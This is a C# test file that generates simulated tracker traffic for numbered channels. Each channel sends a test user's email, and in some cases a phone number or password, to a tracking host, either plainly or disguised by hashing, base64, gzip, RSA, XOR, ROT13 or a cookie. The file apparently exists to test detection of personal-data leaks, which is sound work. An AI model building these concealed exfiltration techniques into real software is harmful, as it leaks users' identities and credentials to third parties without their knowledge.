using System.Security.Cryptography;
using System.Text;
using System.Text.Json;
using Candor.Traffic.Tests.Support;

namespace Candor.Traffic.Tests.Channels;

/// <summary>The traffic of each channel.</summary>
internal static class ResearchChannels
{
    public static Flow Flow(string channel)
    {
        var email = Shipped.Email;
        var escaped = Uri.EscapeDataString(email);
        var sha = Coded.Sha256(email);
        return channel switch
        {
            "E01" => Sent.Post(JsonSerializer.Serialize(new Dictionary<string, string> { ["f"] = "email", ["v"] = email })),
            "E02" => Sent.Get($"{Sent.Tracker}?h={sha}"),
            "E03" => Sent.Get($"https://www.facebook.com/tr/?id=123&ev=Lead&ud%5Bem%5D={sha}"),
            "E04" => Sent.Post("m=" + Convert.ToHexStringLower(MD5.HashData(Coded.Bytes(email)))),
            "E05" => Sent.Get($"{Sent.Tracker}?s={Convert.ToHexStringLower(SHA1.HashData(Coded.Bytes(email)))}"),
            "E06" => Sent.Get($"{Sent.Tracker}?b={Uri.EscapeDataString(Coded.Base64(sha))}"),
            "E07" => Sent.Get($"{Sent.Tracker}?u={sha.ToUpperInvariant()}"),
            "E08" => Sent.Post("data=" + Uri.EscapeDataString(Coded.Base64($$"""{"event":"signup","email":"{{email}}"}"""))),
            "E10" => Sent.Post(Coded.Gzip($$"""{"e":"{{email}}"}"""), ("Content-Type", "application/octet-stream")),
            "E11" => Sent.Frame(Coded.Bytes($$"""{"type":"id","email":"{{email}}"}"""), isText: true),
            "E12" => Sent.Get($"{Sent.Tracker}/u/{escaped}/i.gif"),
            // compressToEncodedURIComponent of lz-string 1.5.0, made by LzStringTests' own packer.
            "E13" => Sent.Get($"{Sent.Tracker}?z={LzPacker.ToEncodedUriComponent(email)}"),
            "E14" => Sent.Post("k=" + Convert.ToBase64String(Rsa(email))),
            "E15" => Sent.Get($"{Sent.Tracker}?r={Uri.EscapeDataString(Coded.Rot13(email))}"),
            "E16" => Sent.Post("x=" + Uri.EscapeDataString(Convert.ToBase64String(Coded.Xor(email, 0x2a)))),
            "E17" => Sent.Get("https://metrics.shop.example/i", ("Cookie", "a=1; _em=" + Coded.Base64(email))),
            "E18" => Sent.Get($"{Sent.Tracker}?relay={escaped}"),
            "E19" => Sent.Get($"{Sent.Tracker}?p={Coded.Sha256("86" + Shipped.Phone)}"),
            "E20" => Sent.Get($"{Sent.Tracker}?hh={Coded.Sha256(sha)}"),
            "E21" => Sent.Get($"{Sent.Tracker}?x={Coded.Hex(email)}"),
            "E22" => Sent.Get($"{Sent.Tracker}?hs={Coded.Sha256("a-salt-of-the-page" + email)}"),
            "E23" => Sent.Get($"{Sent.Tracker}?b3={Uri.EscapeDataString(Coded.Base64(Coded.Base64(Coded.Base64(email))))}"),
            "E24" => Sent.Post("pw=" + Uri.EscapeDataString(Shipped.Person.Find("password")!)),
            _ => throw new ArgumentException(channel, nameof(channel)),
        };
    }

    private static byte[] Rsa(string text)
    {
        using var rsa = RSA.Create(2048);
        return rsa.Encrypt(Encoding.UTF8.GetBytes(text), RSAEncryptionPadding.Pkcs1);
    }
}
